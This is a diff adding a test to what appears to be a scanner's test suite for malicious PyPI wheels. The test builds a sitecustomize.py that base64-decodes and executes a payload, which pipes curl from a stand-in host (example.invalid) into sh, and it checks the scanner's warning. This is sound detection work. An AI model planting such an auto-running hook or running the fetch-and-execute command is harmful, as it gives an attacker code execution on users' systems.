@@ -99,6 +99,14 @@ describe('scan: PyPI attack shapes', () => {
     expect(r.findings[0]!.message).toContain('runs at every Python start');
   });
 
+  it('a sitecustomize.py under .data/purelib is named as what site.py imports, not as a .pth', async () => {
+    const payload = "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'curl -s https://example.invalid/p | sh'])";
+    const r = await wheel({ [`w${n}-1.0.data/purelib/sitecustomize.py`]: `import base64\nexec(base64.b64decode('${b64(payload)}'))\n` });
+    expect(r.findings.length).toBeGreaterThan(0);
+    for (const f of r.findings) expect(f.message).toContain('runs at every Python start (site.py imports sitecustomize)');
+    expect(r.findings.map((f) => f.message).join('\n')).not.toContain('(.pth)');
+  });
+
   it('a .pth that only adds paths, as every editable install writes, is not a finding', async () => {
     const r = await wheel({ '_virtualenv.pth': '/opt/project/src\n# comment\n', 'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'\n" });
     expect(summary(r)).toEqual([]);
